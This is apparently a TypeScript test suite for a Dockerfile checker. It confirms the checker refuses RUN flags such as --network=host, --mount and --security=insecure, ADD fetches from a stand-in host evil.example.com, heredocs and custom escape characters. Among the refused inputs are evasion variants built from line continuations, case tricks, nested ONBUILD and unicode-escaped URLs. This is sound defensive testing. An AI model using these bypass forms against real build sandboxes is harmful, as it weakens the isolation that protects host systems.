import { describe, expect, test } from 'bun:test'
import { PenError } from '../base/error.ts'
import { checkDockerfile, imagesNamed, instructionsOf } from './check-dockerfile.ts'

const check = (text: string) => () => checkDockerfile(text, '/p/Dockerfile')

describe('a project’s Dockerfile', () => {
  test.each([
    ['FROM x\nRUN --mount=type=bind,source=a,target=/b ls', 'flags of RUN'],
    ['FROM x\nrun --network=host curl evil', 'flags of RUN'],
    ['FROM x\nRUN \\\n  --mount=type=cache,id=../.. ls', 'flags of RUN'],
    ['FROM x\nRUN \\\n# a comment\n\n --security=insecure ls', 'flags of RUN'],
    ['FROM x\nRUN -\\\n   -network=host ls', 'flags of RUN'],
    ['FROM x\nRU\\\nN --network=host ls', 'flags of RUN'],
    ['FROM x\nONBUILD RUN --network=host ls', 'flags of RUN'],
    ['FROM x\nonbuild onbuild Run --network=host ls', 'flags of RUN'],
    ['FROM x\nADD http://evil.example.com/a /a', 'the engine fetches for ADD itself'],
    ['FROM x\nADD ["https://evil.example.com/a", "/a"]', 'the engine fetches for ADD itself'],
    ['FROM x\nADD ["http:\\u002f\\u002fevil.example.com/a", "/a"]', 'the engine fetches for ADD itself'],
    ['ARG U=http://evil.example.com\nFROM x\nADD $U /a', 'the engine fetches for ADD itself'],
    ['FROM x\nADD git@github.com:a/b.git /a', 'the engine fetches for ADD itself'],
    ['FROM x\nADD ht\\\ntp://evil.example.com /a', 'the engine fetches for ADD itself'],
    ['FROM x\nRUN <<EOF\nls\nEOF', 'hides where an instruction ends'],
    ['FROM x\nCOPY <<-"X" /a\nX', 'hides where an instruction ends'],
    ['# escape=`\nFROM x\nRUN `\n --network=host ls', 'escape character'],
  ])('%j is refused', (text, why) => {
    expect(check(text)).toThrow(PenError)
    expect(check(text)).toThrow(why)
  })

  test.each([
    'FROM x\nRUN ls --mount=type=bind',
    'FROM x\nRUN make \\\n  --jobs=4',
    'FROM x\nRUN test $((1<<2)) -eq 4',
    'FROM x\nADD rootfs.tar.gz /',
    'FROM x\nADD --chown=1000:1000 ["a b", "/c/"]',
    'FROM x\nCOPY --from=build /out /out',
    'FROM x\nRUN curl -fsSL https://allowed.example.com/ >/a',
    '# RUN --mount=type=bind ls\nFROM x',
  ])('%j is allowed', text => {
    expect(check(text)).not.toThrow()
  })

  test('is refused at the line where the instruction begins', () => {
    try {
      checkDockerfile('FROM x\n\nRUN \\\n --network=host a', '/p/Dockerfile')
      expect.unreachable()
    } catch (error) {
      expect((error as PenError).at).toEqual({ file: '/p/Dockerfile', line: 3, column: 1 })
    }
  })
})

describe('instructions', () => {
  test('are joined over lines, comments and Windows’ line ends', () => {
    expect(instructionsOf('from x\r\nRUN a \\\r\n# c\r\n\r\n  b\r\nCMD ["c"]')).toEqual([
      { name: 'FROM', text: 'x', line: 1 },
      { name: 'RUN', text: 'a b', line: 2 },
      { name: 'CMD', text: '["c"]', line: 6 },
    ])
  })
})

describe('the images that a Dockerfile names', () => {
  test('are those of FROM and COPY, with arguments put in and without its own stages', () => {
    const text =
      'ARG PEN_BASE\nARG TAG=1\nFROM --platform=linux/amd64 $PEN_BASE AS build\nFROM other:$TAG\nCOPY --from=build /a /a\nCOPY --from=0 /a /a\nCOPY --from=third /a /a\nFROM scratch'
    expect(imagesNamed(text, new Map([['PEN_BASE', 'abc']]))).toEqual(['abc', 'other:1', 'third'])
  })
})
